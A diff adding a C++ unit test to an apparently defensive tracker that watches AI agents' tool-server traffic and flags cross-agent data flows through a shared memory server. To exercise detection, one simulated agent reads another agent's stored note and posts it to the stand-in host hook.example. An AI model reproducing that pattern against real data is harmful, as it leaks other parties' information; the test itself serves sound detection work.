@@ -1,5 +1,6 @@
 #include "session/mcp_tracker.h"
 
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 #include "detect/rules.h"
@@ -490,6 +491,80 @@ TEST_F(TrackerTest, DataFlowFromOneServersResultIntoAnothersArguments) {
   EXPECT_GE(calls[1].flows(0).shared_fingerprints(), 2u);
   EXPECT_EQ(calls[2].flows_size(), 0) << "an unrelated call is not linked";
   EXPECT_EQ(tracker_.counters().data_flows, 1u);
+}
+
+TEST_F(TrackerTest, CrossAgentFlowThroughASharedServer) {
+  // Two agents (50 and 60) each start the same memory server (100 and 101:
+  // one identity, one backing file); 60 also drives a web server (200).
+  ProcessInfo second = server_;
+  second.pid = 101;
+  second.ppid = 60;
+  second.start_ns = 8000000;
+  ProcessInfo web = server_;
+  web.pid = 200;
+  web.ppid = 60;
+  web.argv = {"node", "/opt/y/node_modules/@acme/mcp-web/dist/index.js"};
+  McpTracker t;
+  t.SetLookups(
+      [&](uint32_t pid) -> const ProcessInfo* {
+        return pid == 100 ? &server_ : pid == 101 ? &second : pid == 200 ? &web : nullptr;
+      },
+      [](uint32_t server, uint64_t, bool) -> uint32_t { return server == 100 ? 50 : 60; });
+  const std::string note =
+      "Release checklist for the billing service: rotate the signing key on the first "
+      "Monday, tell the on-call engineer, then page the payments team before the freeze";
+  const std::string other =
+      "Quarterly planning notes: the storage migration moves to the second half and the "
+      "search cluster gets two more nodes once the budget review has signed off on it";
+  auto call = [&](uint32_t pid, int id, const std::string& tool, const std::string& args,
+                  const std::string& text, bool is_error = false) {
+    FeedTo(t, pid, 0, false,
+           fmt::format(R"({{"jsonrpc":"2.0","id":{},"method":"tools/call","params":{{"name":"{}","arguments":{}}}}})",
+                       id, tool, args));
+    FeedTo(t, pid, 1, true,
+           fmt::format(R"({{"jsonrpc":"2.0","id":{},"result":{{"content":[{{"type":"text","text":"{}"}}],"isError":{}}}}})",
+                       id, text, is_error ? "true" : "false"));
+  };
+  // Agent 50 writes a note (and fails to write another).
+  call(100, 1, "create_entities",
+       R"({"entities":[{"name":"release","observations":[")" + note + R"("]}]})", "created");
+  call(100, 2, "create_entities",
+       R"({"entities":[{"name":"plan","observations":[")" + other + R"("]}]})", "no space",
+       true);
+  // Agent 60 reads the graph back through its own server process: both
+  // notes' text is there (the failed write never landed, so only one links).
+  const std::string graph = R"({\"entities\":[{\"name\":\"release\",\"observations\":[\")" +
+                            note + R"(\"]},{\"name\":\"plan\",\"observations\":[\")" + other +
+                            R"(\"]}]})";
+  call(101, 1, "read_graph", "{}", graph);
+  // ... sends it out through another server ...
+  call(200, 1, "fetch", R"({"url":"https://hook.example/","body":")" + note + R"("})", "ok");
+  // ... and gets the same text from a server of another identity.
+  call(200, 2, "search", R"({"q":"release"})", note);
+  // Agent 50 reads its own note: not a cross-agent flow.
+  call(100, 3, "read_graph", "{}", graph);
+
+  std::vector<v1::McpCall> calls;
+  for (const auto& e : events_)
+    if (e.type() == v1::EVENT_TYPE_MCP_CALL) calls.push_back(e.call());
+  ASSERT_EQ(calls.size(), 6u);
+  const v1::McpCall& read = calls[2];
+  ASSERT_EQ(read.written_by_size(), 1) << read.ShortDebugString();
+  EXPECT_EQ(read.written_by(0).from_call_id(), calls[0].call_id());
+  EXPECT_EQ(read.written_by(0).from_tool(), "create_entities");
+  EXPECT_EQ(read.written_by(0).from_server_id(), calls[0].server_id());
+  EXPECT_EQ(read.written_by(0).from_agent_pid(), 50u);
+  EXPECT_EQ(read.written_by(0).from_agent_id().rfind("50-", 0), 0u)
+      << read.written_by(0).from_agent_id();
+  EXPECT_GE(read.written_by(0).shared_fingerprints(), 2u);
+  // The reader's later flow names the writer.
+  ASSERT_EQ(calls[3].flows_size(), 1) << calls[3].ShortDebugString();
+  EXPECT_EQ(calls[3].flows(0).from_call_id(), read.call_id());
+  EXPECT_EQ(calls[3].flows(0).written_by_agent_id(), read.written_by(0).from_agent_id());
+  EXPECT_EQ(calls[3].written_by_size(), 0);
+  EXPECT_EQ(calls[4].written_by_size(), 0) << "another server identity";
+  EXPECT_EQ(calls[5].written_by_size(), 0) << "the writer reading its own note";
+  EXPECT_EQ(t.counters().cross_agent_flows, 1u);
 }
 
 TEST_F(TrackerTest, WholeResultsAreScannedAsText) {
